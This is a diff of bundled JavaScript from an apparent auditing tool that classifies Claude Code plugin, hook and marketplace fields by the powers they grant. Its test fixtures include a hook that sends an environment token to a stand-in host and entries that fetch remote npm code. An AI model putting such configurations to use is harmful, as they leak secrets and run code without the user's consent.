 		feature: "agent-tools",
 		subject: "disallowedTools",
 		trigger
 	});
-	if (!allowed || allowed.value.kind === "null") return { grants: [anyTool(frontmatter.fields.get("name")?.keyAt ?? { path }), ...denied] };
+	if (!allowed || allowed.value.kind === "null") return { grants: [anyTool$1(frontmatter.fields.get("name")?.keyAt ?? { path }), ...denied] };
 	return { grants: [...toolGrants(allowed, {
 		kind: "delegate",
 		feature: "agent-tools",
@@ -14323,7 +15365,7 @@ function skills$3(frontmatter) {
 		scope: name,
 		reach: "one",
 		subject: "skills",
-		trigger: duringTurn$2,
+		trigger: duringTurn$5,
 		at,
 		remark: "a skill, loaded at the start"
 	})) };
@@ -14334,7 +15376,7 @@ const projectFields = [
 	"hooks"
 ];
 function projectGrants(frontmatter, unit) {
-	return combine$1(modeGrant(frontmatter.fields.get("permissionMode"), frontmatter.fields.get("name")?.keyAt ?? frontmatter.at), agentServers(get(frontmatter, "mcpServers"), unit), readHooks(get(frontmatter, "hooks"), { unit }));
+	return combine$1(modeGrant(frontmatter.fields.get("permissionMode"), frontmatter.fields.get("name")?.keyAt ?? frontmatter.at), agentServers(get(frontmatter, "mcpServers"), unit), readHooks$1(get(frontmatter, "hooks"), { unit }));
 }
 function ignoredFields(frontmatter) {
 	return projectFields.flatMap((key) => {
@@ -14349,53 +15391,27 @@ function maskedFault(frontmatter, isOfProject) {
 	return grantFault(msg`The description is not YAML. ${consequence}`, at, msg`Quote the description.`);
 }
 // src/powers/carriers/claude-hooks.ts
-const known$19 = new Set([
-	"hooks",
-	"description",
-	"$schema"
-]);
-const claudeHooks = {
+const claudeHooks = tableCarrier({
 	id: "claude-hooks",
-	title: "`hooks/hooks.json` of a plugin",
+	paths: ["<plugin>/hooks/hooks.json"],
 	client: "Claude Code",
-	extensions: ["json"],
-	fields: [
-		{
-			field: "hooks.<event>[].hooks[].command",
-			kind: "run",
-			description: "runs the command at the event, without asking"
-		},
-		{
-			field: "hooks.<event>[].hooks[].url",
-			kind: "net",
-			description: "sends the event to the host"
-		},
-		{
-			field: "hooks.<event>[].hooks[].headers",
-			kind: "secret",
-			description: "sends variables of the environment to the host"
-		},
-		{
-			field: "hooks.<event>[].hooks[].tool",
-			kind: "mcp",
-			description: "calls the tool of an MCP server at the event"
-		},
-		{
-			field: "hooks.<event>[].hooks[].prompt",
-			kind: "delegate",
-			description: "asks a model at the event, which may block it"
-		},
-		{
-			field: "hooks.PreToolUse[].hooks[]",
-			kind: "guard",
-			description: "may block the tool call; `async` cannot"
-		}
+	format: "json",
+	consequence: "Claude Code loads none of its hooks",
+	marks: /"(?:hooks|modules|surface|(?:Pre|Post)ToolUse|SessionStart|Stop)"/,
+	rows: [
+		...hookRows("runs commands at the event, without asking"),
+		...grants$1("run", "modules[]", "runs the module and what it imports in the client, at each session", {
+			read: readModule$1,
+			example: { modules: ["./guard.ts"] }
+		}),
+		...harmless$1("description $schema surface")
 	],
 	unitOf(path, tree) {
 		const folder = folderOf(path);
 		if (nameOf$3(path) !== "hooks.json" || nameOf$3(folder) !== "hooks") return null;
 		const root = folderOf(folder);
 		const isPlugin = tree.has(join$2(root, ".claude-plugin/plugin.json"));
+		if (!isPlugin && nameOf$3(root) === ".claude-plugin") return null;
 		const isOther = ["gemini-extension.json", ".cursor-plugin/plugin.json"].some((name) => tree.has(join$2(root, name)));
 		if (!isPlugin && isOther) return null;
 		return {
@@ -14403,28 +15419,57 @@ const claudeHooks = {
 			root
 		};
 	},
-	read({ path, text, unit }) {
-		if (!text.includes("\"hooks\"")) return nothing$1;
-		const { root, faults } = readJson(path, text, { consequence: "Claude Code loads none of its hooks" });
-		if (!root) return combine$1({ faults });
-		return combine$1({ unread: unreadFields(root, known$19) }, readHooks(get(root, "hooks"), { unit }));
-	},
-	examples: [
-		exampleOf$1("run", "notify.sh", [
-			{ "p/hooks/hooks.json": "{\"hooks\": {\"SessionStart\": [{\"matcher\": \"startup|resume\", \"hooks\": [{\"type\": \"command\", \"command\": \"./notify.sh\", \"timeout\": 5}]}]}}\n" },
-			{ "p/hooks/hooks.json": "{\"hooks\": {}}\n" },
-			{ "p/hooks/hooks.json": "{\n  \"hooks\": {\n    \"SessionStart\": [\n      {\"hooks\": [{\"timeout\": 9, \"command\": \" ./notify.sh\", \"type\": \"command\"}], \"matcher\": \"resume|startup\"}\n    ]\n  }\n}\n" }
-		]),
-		exampleOf$1("guard", "PreToolUse", [{ "p/hooks/hooks.json": "{\"hooks\": {\"PreToolUse\": [{\"matcher\": \"Bash\", \"hooks\": [{\"type\": \"command\", \"command\": \"deny.sh\"}]}]}}\n" }, { "p/hooks/hooks.json": "{\"hooks\": {\"PreToolUse\": [{\"matcher\": \"Bash\", \"hooks\": [{\"type\": \"command\", \"command\": \"deny.sh\", \"async\": true}]}]}}\n" }]),
-		exampleOf$1("net", "https://x.example/hook", [{ "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"http\", \"url\": \"https://x.example/hook\"}]}]}}\n" }, { "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": []}}\n" }]),
-		exampleOf$1("secret", "${TOKEN} to https://x.example", [{ "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"http\", \"url\": \"https://x.example\", \"headers\": {\"Authorization\": \"Bearer ${TOKEN}\"}, \"allowedEnvVars\": [\"TOKEN\"]}]}]}}\n" }, { "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"http\", \"url\": \"https://x.example\"}]}]}}\n" }]),
-		exampleOf$1("mcp", "tracker / log", [{ "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"mcp_tool\", \"server\": \"tracker\", \"tool\": \"log\"}]}]}}\n" }, { "p/hooks/hooks.json": "{\"hooks\": {}}\n" }]),
-		exampleOf$1("delegate", "Are the tests green?", [{ "p/hooks/hooks.json": "{\"hooks\": {\"Stop\": [{\"hooks\": [{\"type\": \"prompt\", \"prompt\": \"Are the tests green?\"}]}]}}\n" }, { "p/hooks/hooks.json": "{\"hooks\": {}}\n" }])
-	]
-};
+	readWhole: (root) => ({ faults: missingHooks(root) }),
+	sample: {
+		path: "p/hooks/hooks.json",
+		fields: { hooks: {} }
+	}
+});
+function readModule$1({ value }, { source }) {
+	const written = text$1(value);
+	const path = written === void 0 ? void 0 : resolve$1(folderOf(source.path), written);
+	const { root } = source.unit;
+	const base = {
+		kind: "run",
+		feature: "hook",
+		subject: "module",
+		at: value.at
+	};
+	const trigger = { start: "session" };
+	const remark = "a module: it may read and rewrite every call";
+	if (written === void 0) return { grants: [{
+		...base,
+		scope: "",
+		reach: "unknown",
+		trigger
+	}] };
+	const command = path === void 0 ? void 0 : ["node", `\${CLAUDE_PLUGIN_ROOT}/${relativePath$1(root, path)}`];
+	return { grants: [{
+		...base,
+		scope: written,
+		reach: "one",
+		trigger,
+		remark,
+		command
+	}] };
+}
+function missingHooks(root) {
+	if ([
+		"hooks",
+		"modules",
+		"surface"
+	].some((key) => root.fields.has(key))) return [];
+	if (![...root.fields.keys()].some((key) => claudeEvents.has(key))) return [];
+	return [{
+		message: msg`Missing ${code$1("hooks")}. Claude Code loads none of its hooks.`,
+		help: msg`Put the events below ${code$1("hooks")}.`,
+		at: root.at,
+		isUnreadable: true
+	}];
+}
 // src/powers/examples/claude-marketplace.ts
 const path$4 = ".claude-plugin/marketplace.json";
-const example$16 = exampleWriter((entry) => {
+const example$12 = exampleWriter((entry) => {
 	const plugins = [{
 		name: "p",
 		source: "./p",
@@ -14439,36 +15484,36 @@ const example$16 = exampleWriter((entry) => {
 		plugins
 	})}\n` };
 });
-const sha$1 = "8d1f6a3b5c7e9f0a1b2c3d4e5f60718293a4b5c6";
-const hook$1 = [{ hooks: [{
+const sha$2 = "8d1f6a3b5c7e9f0a1b2c3d4e5f60718293a4b5c6";
+const hook = [{ hooks: [{
 	type: "command",
 	command: "./start.sh"
 }] }];
 const marketplaceExamples = [
-	example$16("install", `github acme/p@${sha$1}`, [
+	example$12("install", `github acme/p@${sha$2}`, [
 		{ source: {
 			source: "github",
 			repo: "acme/p",
-			sha: sha$1
+			sha: sha$2
 		} },
 		{},
 		{ source: {
-			sha: sha$1,
+			sha: sha$2,
 			repo: "acme/p",
 			source: "github",
 			ref: "main"
 		} }
 	]),
-	example$16("install", "github acme/p@main", [{ source: {
+	example$12("install", "github acme/p@main", [{ source: {
 		source: "github",
 		repo: "acme/p",
 		ref: "main"
 	} }, { source: {
 		source: "github",
 		repo: "acme/p",
-		sha: sha$1
+		sha: sha$2
 	} }]),
-	example$16("install", "npm @acme/p", [{ source: {
+	example$12("install", "npm @acme/p", [{ source: {
 		source: "npm",
 		package: "@acme/p"
 	} }, { source: {
@@ -14476,7 +15521,7 @@ const marketplaceExamples = [
 		package: "@acme/p",
 		version: "1.2.3"
 	} }]),
-	example$16("install", "archive https://x.example/p.zip", [
+	example$12("install", "archive https://x.example/p.zip", [
 		{ source: {
 			source: "archive",
 			url: "https://x.example/p.zip"
@@ -14487,34 +15532,30 @@ const marketplaceExamples = [
 			url: "HTTPS://X.example/p.zip"
 		} }
 	]),
-	example$16("run", "make plugin", [{ source: {
+	example$12("run", "make plugin", [{ source: {
 		source: "command",
 		command: "make plugin"
 	} }, {}]),
-	example$16("run", "./start.sh", [
-		{ hooks: { SessionStart: hook$1 } },
+	example$12("run", "./start.sh", [
+		{ hooks: { SessionStart: hook } },
 		{},
 		{
-			hooks: { hooks: { SessionStart: hook$1 } },
+			hooks: { hooks: { SessionStart: hook } },
 			strict: false
 		}
 	]),
-	example$16("mcp", "npx -y docs-mcp", [{ mcpServers: { docs: {
+	example$12("mcp", "npx -y docs-mcp", [{ mcpServers: { docs: {
 		command: "npx",
 		args: ["-y", "docs-mcp"]
 	} } }, {}]),
-	example$16("guard", "defaultEnabled: false", [{ defaultEnabled: false }, {}]),
+	example$12("guard", "defaultEnabled: false", [{ defaultEnabled: false }, {}]),
 	exampleOf$1("settings", "other-market", [{ [path$4]: "{\"name\": \"a\", \"plugins\": [], \"allowCrossMarketplaceDependenciesOn\": [\"other-market\"]}\n" }, { [path$4]: "{\"name\": \"a\", \"plugins\": []}\n" }])
 ];
 // src/powers/plugins/installs.ts
-function readDependencies(value) {
-	if (value && value.kind !== "list") return { faults: [wrongType("dependencies", value, {
-		expected: "a list",
-		consequence: "Claude Code does not load the plugin"
-	})] };
-	return { grants: items(value).map(dependencyGrant) };
+function readDependencies(value, kind = "dependency") {
+	return { grants: items(value).map((item) => dependencyGrant(item, kind)) };
 }
-function dependencyGrant(value) {
+function dependencyGrant(value, kind) {
 	const name = text$1(value) ?? text$1(get(value, "name"));
 	const market = text$1(get(value, "marketplace"));
 	const version = source(get(value, "version")) ?? "";
@@ -14522,7 +15563,7 @@ function dependencyGrant(value) {
 	return {
 		kind: "install",
 		feature: "package",
-		subject: `dependency ${name ?? ""}`,
+		subject: `${kind} ${name ?? ""}`,
 		scope: version === "" ? plugin : `${plugin} ${version}`,
 		at: value.at,
 		reach: name === void 0 ? "unknown" : "one",
@@ -14534,6 +15575,7 @@ function dependencyGrant(value) {
 		remark: "enabled with this plugin"
 	};
 }
+const configRows = harmless$1("type title description required default multiple sensitive min max options");
 function readUserConfig(value) {
 	const secret = ({ key, value: option }) => {
 		if (flag$1(get(option, "sensitive")) !== true) return [];
@@ -14575,6 +15617,48 @@ function readChannels(value) {
 		}] }, readUserConfig(get(channel, "userConfig")));
 	}));
 }
+function readBinaries(value) {
+	return { grants: fields(value).map(({ key, keyAt, value: binary }) => {
+		const digest = text$1(get(binary, "sha256"));
+		return {
+			kind: "run",
+			feature: "background-program",
+			subject: `binary ${key}`,
+			entry: {
+				kind: "program",
+				name: key
+			},
+			scope: digest === void 0 ? key : `${key} sha256:${digest}`,
+			reach: "one",
+			trigger: whileEnabled,
+			pin: {
+				level: digest === void 0 ? "mutable" : "digest",
+				program: key,
+				revision: digest
+			},
+			remark: "replaces other programs of this name",
+			at: keyAt
+		};
+	}) };
+}
+function readRemoteCode({ value }) {
+	const written = text$1(value) ?? "";
+	const [, name = written, version = ""] = /^(?:npm:)?(.[^@]*)@?(.*)$/s.exec(written) ?? [];
+	return { grants: [{
+		kind: "install",
+		feature: "package",
+		subject: `code ${name}`,
+		scope: `npm ${name}${version === "" ? "" : `@${version}`}`,
+		reach: "one",
+		trigger: { start: "session" },
+		pin: {
+			level: versionLevel(version),
+			program: name,
+			revision: version || void 0
+		},
+		at: value.at
+	}] };
+}
 // src/powers/plugins/language-servers.ts
 function readLanguageServers(value) {
 	if (value.kind !== "table") return combine$1({ faults: [{
@@ -14586,10 +15670,11 @@ function readLanguageServers(value) {
 	}] });
 	return combine$1(...fields(value).map((field) => readLanguageServer(field)));
 }
-const known$18 = new Set(wordList(`
-  command args extensionToLanguage transport env initializationOptions settings workspaceFolder
-  startupTimeout shutdownTimeout restartOnCrash maxRestarts loggingConfig description
-`));
+const languageServerRows = [...grants$1("run", "command", "runs the program while the plugin is enabled"), ...harmless$1(`
+    args extensionToLanguage transport env initializationOptions settings workspaceFolder
+    startupTimeout shutdownTimeout requestTimeout restartOnCrash maxRestarts loggingConfig
+    description diagnostics
+  `)];
 function readLanguageServer({ key, keyAt, value }) {
 	const command = get(value, "command");
 	const isComplete = text$1(command) !== void 0 && get(value, "extensionToLanguage");
@@ -14615,8 +15700,7 @@ function readLanguageServer({ key, keyAt, value }) {
 	const message = msg`Language server ${namePart(key)} has no ${code$1(lacking)}.`;
 	return {
 		grants: [grant],
-		faults: isComplete ? [] : [grantFault(message, keyAt)],
-		unread: unreadFields(value, known$18, `lspServers.${key}.`)
+		faults: isComplete ? [] : [grantFault(message, keyAt)]
 	};
 }
 // src/powers/plugins/monitors.ts
@@ -14630,12 +15714,7 @@ function readMonitors(value) {
 	}] });
 	return combine$1(...value.items.map((monitor) => readMonitor(monitor)));
 }
-const known$17 = new Set([
-	"name",
-	"command",
-	"description",
-	"when"
-]);
+const monitorRows = [...grants$1("run", "command", "runs the command for a whole session, outside the sandbox"), ...harmless$1("name description when")];
 function readMonitor(monitor) {
 	const name = text$1(get(monitor, "name")) ?? "";
 	const command = get(monitor, "command");
@@ -14661,8 +15740,7 @@ function readMonitor(monitor) {
 	const faults = [...name === "" || line === void 0 ? [grantFault(msg`A monitor has no ${code$1(name === "" ? "name" : "command")}.`, monitor.at)] : [], ...when && trigger === null ? [grantFault(msg`Unknown ${code$1("when")} ${shownValue(when)} of a monitor.`, when.at, whenHelp)] : []];
 	return {
 		grants: [grant],
-		faults,
-		unread: unreadFields(monitor, known$17, "monitors[].")
+		faults
 	};
 }
 const whenHelp = msg`Use ${code$1("always")} or ${code$1("on-skill-invoke:NAME")}.`;
@@ -14723,16 +15801,30 @@ const kinds$3 = [
 	"workflows"
 ];
 function readNamedParts(manifest, unit) {
-	return combine$1({ named: kinds$3.flatMap((kind) => pathsOf$5(get(manifest, kind)).flatMap((written) => {
-		const path = resolve$1(unit.root, written);
-		return path === void 0 ? [] : [{
-			kind,
-			path,
-			unit
-		}];
-	})) }, ...fields(get(manifest, "commands")).map(readCommand));
+	return combine$1({
+		named: kinds$3.flatMap((kind) => pathsOf$4(get(manifest, kind)).flatMap((written) => {
+			const path = resolve$1(unit.root, written);
+			return path === void 0 ? [] : [{
+				kind,
+				path,
+				unit
+			}];
+		})),
+		skillFolders: skillFoldersOf(manifest, unit)
+	}, ...fields(get(manifest, "commands")).map(readCommand));
 }
-function pathsOf$5(value) {
+function skillFoldersOf(manifest, { root }) {
+	const listed = pathsOf$4(get(manifest, "skills")).flatMap((path) => resolve$1(root, path) ?? []);
+	return [
+		join$2(root, "SKILL.md"),
+		join$2(root, "skills"),
+		...listed
+	].map((folder) => ({
+		root,
+		folder
+	}));
+}
+function pathsOf$4(value) {
 	const values = value?.kind === "list" ? value.items : value ? [value] : [];
 	const sources = fields(value).map((field) => get(field.value, "source") ?? field.value);
 	return [...values, ...sources].flatMap((item) => text$1(item) ?? []);
@@ -14767,116 +15859,158 @@ function referencedParts(value, root, carrier, read) {
 		const path = text$1(item);
 		if (path === void 0) return read(item);
 		const target = resolve$1(root, path);
-		return target === void 0 ? {} : { follow: new Map([[target, carrier]]) };
+		return target === void 0 ? {} : { follow: new Map([[target, {
+			carrier,
+			at: item.at
+		}]]) };
 	});
 }
 function unwrap(value, key) {
 	const inner = get(value, key);
 	return inner?.kind === "table" ? inner : value;
 }
+// src/powers/plugins/server-bundles.ts
+function isBundle(written) {
+	return /\.(?:mcpb|dxt)(?:[?#].*)?$/i.test(written);
+}
+function isRemote(written) {
+	return /^https?:\/\//i.test(written);
+}
+function bundleGrant(value, root) {
+	const written = text$1(value) ?? "";
+	const scope = isRemote(written) ? hostOf$2(written).name : written;
+	const path = isRemote(written) ? void 0 : resolve$1(root, written);
+	const name = nameOf$3(scope);
+	return {
+		kind: "mcp",
+		feature: "mcp-server",
+		subject: `server ${name}`,
+		server: name,
+		entry: {
+			kind: "MCP server",
+			name
+		},
+		scope,
+		reach: "one",
+		trigger: whileEnabled,
+		pin: isRemote(written) ? {
+			level: "mutable",
+			program: scope
+		} : void 0,
+		programs: path === void 0 ? void 0 : [path],
+		at: value.at
+	};
+}
 // src/powers/plugins/manifest-parts.ts
-const manifestKeys = wordList(`
-  name version description author homepage repository license keywords category tags $schema
-  displayName hooks mcpServers skills commands agents workflows outputStyles strict metadata
-  lspServers monitors experimental userConfig channels dependencies defaultEnabled
-`);
+const file$3 = (name) => `as in \`${name}\`, or the path of such a file`;
+const manifestRows = [
+	...grants$1("run", "hooks", file$3("hooks/hooks.json"), { example: { hooks: { Stop: [{ hooks: [{
+		type: "command",
+		command: "./notify.sh"
+	}] }] } } }),
+	...inlineRows("hooks", eventRows),
+	...grants$1("mcp", "mcpServers", file$3(".mcp.json"), { example: { mcpServers: { docs: { command: "docs-mcp" } } } }),
+	...inlineRows("mcpServers", (prefix) => serverRows$3("mcpServers", prefix)),
+	...grants$1("run", "lspServers", file$3(".lsp.json"), { example: { lspServers: { ts: {
+		command: "ts-ls",
+		extensionToLanguage: { ".ts": "typescript" }
+	} } } }),
+	...inlineRows("lspServers", (prefix) => within(`${prefix}.<name>`, languageServerRows)),
+	...grants$1("run", "experimental.monitors, monitors", file$3("monitors/monitors.json"), { example: { experimental: { monitors: [{
+		name: "w",
+		command: "./watch.sh"
+	}] } } }),
+	...within("experimental.monitors[]", monitorRows),
+	...within("monitors[]", monitorRows),
+	...grants$1("install", "dependencies", "installs and enables another plugin", { example: { dependencies: ["other"] } }),
+	...grants$1("install", "optionalDependencies", "installs and enables another plugin", { example: { optionalDependencies: ["other"] } }),
+	...within("dependencies[]", harmless$1("name marketplace version")),
+	...within("optionalDependencies[]", harmless$1("name marketplace version")),
+	...grants$1("run", "binaries", "fetches the programs, which commands find by their names", { example: { binaries: { "tool-linux-x64": { sha256: "0".repeat(64) } } } }),
+	...grants$1("net", "network.hosts", "reaches the hosts", {
+		read: hosts("net"),
+		example: { network: { hosts: ["x.example"] } }
+	}),
+	...grants$1("settings", "engines", "loads in these versions of the client only", {
+		read: opaque(),
+		example: { engines: { "claude-code": ">=2.1" } }
+	}),
+	...grants$1("settings", "settings", "changes the settings of the user", {
+		read: opaque(),
+		example: { settings: { agent: "deployer" } }
+	}),
+	...grants$1("install", "experimental.syntaxHighlighting.hljsLanguages[].remote", "loads the code", {
+		read: readRemoteCode,
+		example: { experimental: { syntaxHighlighting: { hljsLanguages: [{
+			id: "x",
+			remote: "npm:hljs-x@latest"
+		}] } } }
+	}),
+	...within("experimental", harmless$1(`
+      themes outputStyles evals syntaxHighlighting.hljsLanguages[].id
+      syntaxHighlighting.hljsLanguages[].integrity
+    `)),
+	...grants$1("run", "commands.<name>.content", "runs the commands of each `` !`\u2026` ``", {
+		example: { commands: { st: { content: "Look: !`git status`" } } },
+		without: { commands: { st: { content: "Look: git status" } } }
+	}),
+	...grants$1("approve", "commands.<name>.allowedTools", "allows the tools without asking", { example: { commands: { st: {
+		content: "Look.",
+		allowedTools: ["Bash(git *)"]
+	} } } }),
+	...within("commands.<name>", harmless$1("source description argumentHint model")),
+	...grants$1("secret", "userConfig.<name>.sensitive", "asks the user for a secret and gives it to hooks and servers", { example: { userConfig: { key: {
+		type: "string",
+		title: "Key",
+		sensitive: true
+	} } } }),
+	...within("userConfig.<name>", configRows),
+	...grants$1("mcp", "channels[].server", "sends messages of the server to the model", {
+		example: { channels: [{ server: "chat" }] },
+		without: { channels: [] }
+	}),
+	...harmless$1("channels[].displayName"),
+	...within("channels[].userConfig.<name>", configRows),
+	...grants$1("guard", "defaultEnabled", "false: the plugin starts disabled", { example: { defaultEnabled: false } }),
+	...harmless$1(`
+    name version description author homepage repository license keywords category tags $schema
+    displayName skills commands agents workflows outputStyles themes types strict metadata
+  `)
+];
 function readManifestParts(manifest, unit) {
 	const { root } = unit;
 	const monitors = get(get(manifest, "experimental"), "monitors") ?? get(manifest, "monitors");
-	return combine$1({ faults: pathFaults(manifest) }, readNamedParts(manifest, unit), ...referencedParts(get(manifest, "hooks"), root, "claude-hooks", (value) => readHooks(unwrap(value, "hooks"), { unit })), ...referencedParts(get(manifest, "mcpServers"), root, "mcp-json", (value) => readServers(unwrap(value, "mcpServers"), {
+	return combine$1(readNamedParts(manifest, unit), ...referencedParts(get(manifest, "hooks"), root, "claude-hooks", (value) => readHooks$1(unwrap(value, "hooks"), { unit })), ...serverParts(get(manifest, "mcpServers"), unit), ...referencedParts(get(manifest, "lspServers"), root, "plugin-lsp", (value) => {
+		const read = readLanguageServers(unwrap(value, "lspServers"));
+		return {
+			...read,
+			faults: read.faults.filter(({ isUnreadable }) => isUnreadable)
+		};
+	}), ...text$1(monitors) === void 0 ? [monitors ? readMonitors(monitors) : {}] : referencedParts(monitors, root, "plugin-monitors", () => combine$1()), readDependencies(get(manifest, "dependencies")), readDependencies(get(manifest, "optionalDependencies"), "optional dependency"), readBinaries(get(manifest, "binaries")), readUserConfig(get(manifest, "userConfig")), readChannels(get(manifest, "channels")), offSwitch(manifest.fields.get("defaultEnabled"), "", false));
+}
+function serverParts(value, unit) {
+	const list = value?.kind === "list" ? value.items : value ? [value] : [];
+	const bundles = list.filter((item) => isBundle(text$1(item) ?? ""));
+	const others = list.filter((item) => !bundles.includes(item));
+	return [{ grants: bundles.map((bundle) => bundleGrant(bundle, unit.root)) }, ...others.flatMap((item) => referencedParts(item, unit.root, "mcp-json", (inline) => readServers$1(unwrap(inline, "mcpServers"), {
 		unit,
 		needsType: true
-	})), ...referencedParts(get(manifest, "lspServers"), root, "plugin-lsp", (value) => readLanguageServers(unwrap(value, "lspServers"))), ...text$1(monitors) === void 0 ? [monitors ? readMonitors(monitors) : {}] : referencedParts(monitors, root, "plugin-monitors", () => combine$1()), readDependencies(get(manifest, "dependencies")), readUserConfig(get(manifest, "userConfig")), readChannels(get(manifest, "channels")), offSwitch(manifest.fields.get("defaultEnabled"), "", false));
+	})))];
 }
-const pathKeys$1 = [
-	"hooks",
-	"mcpServers",
-	"lspServers",
-	"agents",
-	"commands",
-	"outputStyles"
-];
-function pathFaults(manifest) {
-	return pathKeys$1.flatMap((key) => {
-		const field = manifest.fields.get(key);
-		return field ? pathsOf$4(field).flatMap((value) => pathFault$1(key, value)) : [];
-	});
+// src/powers/plugins/marketplace-entry.ts
+function inEntry$1(row) {
+	const entry = (fields) => fields && { plugins: [{
+		name: "p",
+		source: "./p",
+		...fields
+	}] };
+	return {
+		...row,
+		example: entry(row.example),
+		without: entry(row.without)
+	};
 }
-function pathsOf$4({ value }) {
-	return [value, ...items(value)].filter(({ kind }) => kind === "string");
-}
-function pathFault$1(key, value) {
-	const path = text$1(value) ?? "";
-	const written = msg`Path ${pathPart(path)} of ${code$1(key)}`;
-	const consequence = msg`Claude Code does not load the plugin.`;
-	if (path.split("/").includes("..")) return [grantFault(msg`${written} is outside the plugin. ${consequence}`, value.at)];
-	if (path.startsWith("./")) return [];
-	return [grantFault(msg`${written} does not start with ${code$1("./")}. ${consequence}`, value.at, msg`Write ${code$1(`./${path}`)}.`)];
-}
-// src/powers/carriers/claude-marketplace.ts
-const known$16 = new Set(wordList(`
-  name owner plugins metadata $schema description version renames
-  allowCrossMarketplaceDependenciesOn forceRemoveDeletedPlugins
-`));
-const knownOfEntry = new Set([
-	...manifestKeys,
-	"source",
-	"relevance"
-]);
-const claudeMarketplace = {
-	id: "claude-marketplace",
-	title: "`.claude-plugin/marketplace.json`",
-	client: "Claude Code",
-	extensions: ["json"],
-	isCheckedElsewhere: true,
-	fields: [
-		{
-			field: "plugins[].source",
-			kind: "install",
-			description: "offers the plugin of another repository, package or archive"
-		},
-		{
-			field: "plugins[].source.command",
-			kind: "run",
-			description: "runs the command at every session start"
-		},
-		{
-			field: "plugins[].hooks, plugins[].lspServers, plugins[].monitors",
-			kind: "run",
-			description: "as in `plugin.json`"
-		},
-		{
-			field: "plugins[].mcpServers",
-			kind: "mcp",
-			description: "as in `plugin.json`"
-		},
-		{
-			field: "plugins[].defaultEnabled",
-			kind: "guard",
-			description: "false: it starts disabled"
-		},
-		{
-			field: "allowCrossMarketplaceDependenciesOn",
-			kind: "settings",
-			description: "plugins may install others of the marketplace"
-		}
-	],
-	unitOf(path) {
-		const folder = folderOf(path);
-		return nameOf$3(path) === "marketplace.json" && nameOf$3(folder) === ".claude-plugin" ? {
-			kind: "repository",
-			root: folderOf(folder)
-		} : null;
-	},
-	read({ path, text: written, unit }) {
-		const { root, faults } = readJson(path, written, { consequence: "Claude Code refuses the marketplace" });
-		if (root?.kind !== "table") return combine$1({ faults });
-		const pluginRoot = text$1(get(get(root, "metadata"), "pluginRoot"));
-		return combine$1({ unread: unreadFields(root, known$16) }, listGrants(root.fields.get("allowCrossMarketplaceDependenciesOn"), "", (entry, subject) => settingGrant(subject, `${subject}: ${entry.text}`, { at: entry.at })), ...items(get(root, "plugins")).map((entry) => readEntry(entry, unit, pluginRoot)));
-	},
-	examples: marketplaceExamples
-};
-function readEntry(entry, unit, pluginRoot) {
+function readMarketplaceEntry(entry, { unit, pluginRoot, readParts }) {
 	const name = text$1(get(entry, "name"));
 	if (entry.kind !== "table" || name === void 0) return combine$1();
 	const source = get(entry, "source");
@@ -14889,14 +16023,11 @@ function readEntry(entry, unit, pluginRoot) {
 		at: source?.at ?? entry.at,
 		entry: plugin
 	};
-	const root = rootOf$1(text$1(source), unit.root, pluginRoot);
-	const unread = unreadFields(entry, knownOfEntry, `plugins.${name}.`);
-	const sources = {
-		grants: sourceGrants(source ? readSource(source) : null, owner),
-		unread
-	};
+	const isLocal = text$1(get(source, "source")) === "local";
+	const root = rootOf$1(text$1(source) ?? (isLocal ? text$1(get(source, "path")) : void 0), unit.root, pluginRoot);
+	const sources = { grants: sourceGrants(source ? readSource(source) : null, owner) };
 	if (root === void 0) {
-		const parts = readManifestParts(entry, {
+		const parts = readParts(entry, {
 			kind: "plugin",
 			root: `${unit.root}/\0`
 		});
@@ -14909,7 +16040,7 @@ function readEntry(entry, unit, pluginRoot) {
 		...plugin,
 		root
 	};
-	const { grants, faults, follow, named } = readManifestParts(entry, ownUnit);
+	const { grants, faults, follow, named, skillFolders } = readParts(entry, ownUnit);
 	return combine$1(sources, {
 		grants: grants.map((grant) => ({
 			...grant,
@@ -14918,6 +16049,7 @@ function readEntry(entry, unit, pluginRoot) {
 		faults,
 		follow: followOf(follow, ownUnit),
 		named,
+		skillFolders,
 		plugins: [{
 			name,
 			root
@@ -14929,10 +16061,10 @@ function rootOf$1(source, root, pluginRoot) {
 	return resolve$1(root, !source.startsWith(".") && !source.includes("/") && pluginRoot !== void 0 ? `${pluginRoot}/${source}` : source);
 }
 function followOf(follow, unit) {
-	return new Map([...follow ?? []].map(([path, target]) => typeof target === "string" ? [path, {
-		carrier: target,
-		unit
-	}] : [path, target]));
+	return new Map([...follow ?? []].map(([path, target]) => [path, {
+		unit,
+		...target
+	}]));
 }
 function elsewhere(grants, name) {
 	return grants.map(({ subject, trigger, command: _, ...grant }) => ({
@@ -14946,135 +16078,77 @@ const whenUsed = {
 	start: "event",
 	event: "use of the plugin"
 };
+// src/powers/carriers/claude-marketplace.ts
+const claudeMarketplace = tableCarrier({
+	id: "claude-marketplace",
+	paths: [".claude-plugin/marketplace.json"],
+	client: "Claude Code",
+	format: "json",
+	consequence: "Claude Code refuses the marketplace",
+	isCheckedElsewhere: true,
+	rows: [
+		...grants$1("settings", "allowCrossMarketplaceDependenciesOn", "plugins may install others of the marketplace", {
+			read: each(({ text, at }, { name }) => settingGrant(name, `${name}: ${text}`, { at })),
+			example: {
+				name: "m",
+				plugins: [],
+				allowCrossMarketplaceDependenciesOn: ["other"]
+			}
+		}),
+		...grants$1("install", "plugins[].source", "offers the plugin of another repository, package or archive"),
+		...grants$1("run", "plugins[].source.command", "runs the command at every session start"),
+		...grants$1("run", "plugins[].headersHelper", "runs the command at each download", {
+			read: command$3({ start: "install" }),
+			example: { plugins: [{
+				name: "p",
+				source: "./p",
+				headersHelper: "./h.sh"
+			}] }
+		}),
+		...harmless$1("plugins[].headers"),
+		...within("plugins[]", manifestRows).map(inEntry$1),
+		...within("plugins[].source", harmless$1(`
+      source package version registry url ref sha repo path sha256 timeout mode
+    `)),
+		...harmless$1(`
+      name owner metadata $schema description version renames forceRemoveDeletedPlugins
+      plugins[].relevance
+    `)
+	],
+	unitOf(path) {
+		const folder = folderOf(path);
+		return nameOf$3(path) === "marketplace.json" && nameOf$3(folder) === ".claude-plugin" ? {
+			kind: "repository",
+			root: folderOf(folder)
+		} : null;
+	},
+	readWhole: (root, { unit }) => {
+		const place = {
+			unit,
